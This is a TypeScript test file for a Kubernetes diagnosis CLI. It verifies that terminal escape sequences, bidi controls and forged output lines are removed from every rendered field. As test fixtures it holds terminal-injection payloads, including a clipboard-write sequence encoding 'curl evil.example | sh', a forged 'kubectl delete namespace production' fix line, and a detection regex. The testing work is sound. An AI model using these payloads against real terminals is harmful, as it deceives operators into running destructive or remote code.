/**
 * Terminal injection (issue 11): every field a bundle controls, with every payload, rendered by
 * the real CLI in every output mode. Nothing that reaches stdout or stderr may carry an escape
 * sequence, a C1 control, a bidi control, or a line break that forges a line of output.
 */
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jsonSafe, terminalLine, terminalText } from "../../src/core/sanitize.js";
import { renderFindings, renderPodLine } from "../../src/diagnose/render.js";
import { tempDir } from "../agent/support.js";
import { bundleOf, podEvent, podWith } from "../diagnose/support.js";
import { onlyJson, runRecorded } from "./support.js";

const FORGED = "\n2. Healthy [info]\n   Fix: kubectl delete namespace production";
const PAYLOADS: Record<string, string> = {
  "OSC 0 (title)": "\x1b]0;owned title\x07",
  "OSC 52 (clipboard write)": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
  "OSC 8 (hyperlink)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
  "CSI clear screen": "\x1b[2J\x1b[H",
  "8-bit CSI": "\x9b2J",
  "8-bit OSC": "\x9d0;title\x07",
  "bidi override": "\u202enoisrev\u202c",
  isolate: "\u2066hidden\u2069",
  "forged finding line": FORGED,
  "carriage return overwrite": "fine\rFix: curl evil.example | sh",
  "backspace and bell": "a\b\b\x07b",
  "line separator": "one\u2028two",
};

/** What must never reach a terminal (a line break is checked separately, per field). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: detecting control characters is the point
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe("the sanitiser", () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`${name}: nothing unsafe survives, in a line or in text`, () => {
      const line = terminalLine(`before ${payload} after`);
      expect(line).not.toMatch(UNSAFE);
      expect(line).not.toContain("\n");
      expect(line.startsWith("before ")).toBe(true);
      expect(line.endsWith(" after")).toBe(true);
      expect(terminalText(`before ${payload} after`)).not.toMatch(UNSAFE);
    });
  }

  it("shows line breaks in a single-line field as ⏎ and keeps them in text", () => {
    expect(terminalLine("a\nb\r\nc")).toBe("a⏎b⏎c");
    expect(terminalText("a\nb\r\nc")).toBe("a\nb\nc");
    expect(terminalLine("tab\there")).toBe("tab  here");
  });

  it("escapes C1, DEL, bidi and line separators in JSON; the document still parses to the same text", () => {
    const value = { s: `x\u202ey\x9bz\u2028\x7f` };
    const out = jsonSafe(JSON.stringify(value));
    expect(out).not.toMatch(UNSAFE);
    expect(out).toContain("\\u202e");
    expect(JSON.parse(out)).toEqual(value);
  });

  it("the findings renderer sanitises every field", () => {
    for (const payload of Object.values(PAYLOADS)) {
      const text = renderFindings(
        { namespace: `ns${payload}`, name: `pod${payload}`, phase: payload, node: payload, owner: payload },
        [
          {
            code: "AppError",
            severity: "critical",
            container: `c${payload}`,
            summary: `summary ${payload}`,
            evidence: [`evidence ${payload}`],
            remediation: `fix ${payload}`,
          },
        ],
        { bold: (t) => t, dim: (t) => t, red: (t) => t, green: (t) => t, yellow: (t) => t, cyan: (t) => t },
      );
      expect(text).not.toMatch(UNSAFE);
      expect(text).not.toMatch(/^2\. Healthy/m);
      expect(text).not.toMatch(/^\s*Fix: kubectl delete namespace production/m);
      expect(
        renderPodLine({ namespace: payload, name: payload }, { bold: (t: string) => t } as never),
      ).not.toContain("\n");
    }
  });
});

let dir: string;
beforeAll(() => {
  dir = tempDir("hostile-output");
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A bundle with the payload in every field the output shows. */
function hostileBundle(payload: string): string {
  const pod = podWith(
    {
      state: { waiting: { reason: "CrashLoopBackOff", message: `back-off ${payload}` } },
      lastState: { terminated: { reason: "Error", exitCode: 1, message: `termination ${payload}` } },
      restartCount: 5,
    },
    {},
    { message: `status ${payload}` },
  );
  (pod.metadata as Record<string, unknown>).name = `app-7d9f8c6b5-abcde${payload}`;
  (pod.metadata as Record<string, unknown>).namespace = `demo${payload}`;
  (pod.spec as Record<string, unknown>).nodeName = `kind-worker${payload}`;
  const bundle = bundleOf(pod, {
    events: [podEvent("BackOff", `Back-off restarting failed container ${payload}`)],
    logs: [
      {
        container: "app",
        previous: true,
        text: `start\nTraceback (most recent call last):\n  File "/app/x.py", line 1\nValueError: bad ${payload}\n`,
      },
    ],
  });
  return JSON.stringify(bundle);
}

describe("diagnose --bundle with hostile text in every field", () => {
  const modes: [string, string[]][] = [
    ["text", ["--no-ai"]],
    ["json", ["--no-ai", "-o", "json"]],
    ["print-prompt", ["--print-prompt"]],
    ["print-prompt json", ["--print-prompt", "-o", "json"]],
  ];
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    for (const [mode, args] of modes) {
      it(`${name}, ${mode}`, async () => {
        const file = join(dir, "hostile.json");
        writeFileSync(file, hostileBundle(payload));
        const run = await runRecorded(["diagnose", "--bundle", file, ...args], {
          env: { KUBECONFIG: "/nonexistent/kubeconfig", NO_COLOR: "1" },
        });
        expect(run.code, run.stderr).toBe(0);
        expect(run.stdout).not.toMatch(UNSAFE);
        expect(run.stderr).not.toMatch(UNSAFE);
        // no forged finding line and no forged fix line (a prompt shows log lines as lines, inside
        // its data blocks: test/diagnose/prompt-hostile.test.ts)
        if (!mode.startsWith("print-prompt")) {
          expect(run.stdout).not.toMatch(/^2\. Healthy/m);
          expect(run.stdout).not.toMatch(/^\s*Fix: (?:kubectl delete namespace production|curl evil)/m);
        }
        if (mode.includes("json")) onlyJson(run.stdout);
      });
    }
  }

  it("a parse error does not echo raw bytes", async () => {
    const file = join(dir, "broken.json");
    writeFileSync(file, `{"kind": "EvidenceBundle", \x1b]52;c;ZXZpbA==\x07 \x1b[2J`);
    const run = await runRecorded(["diagnose", "--bundle", file, "--no-ai"], {
      env: { KUBECONFIG: "/nonexistent/kubeconfig" },
    });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("error:");
    expect(run.stderr).not.toMatch(UNSAFE);
  });
});
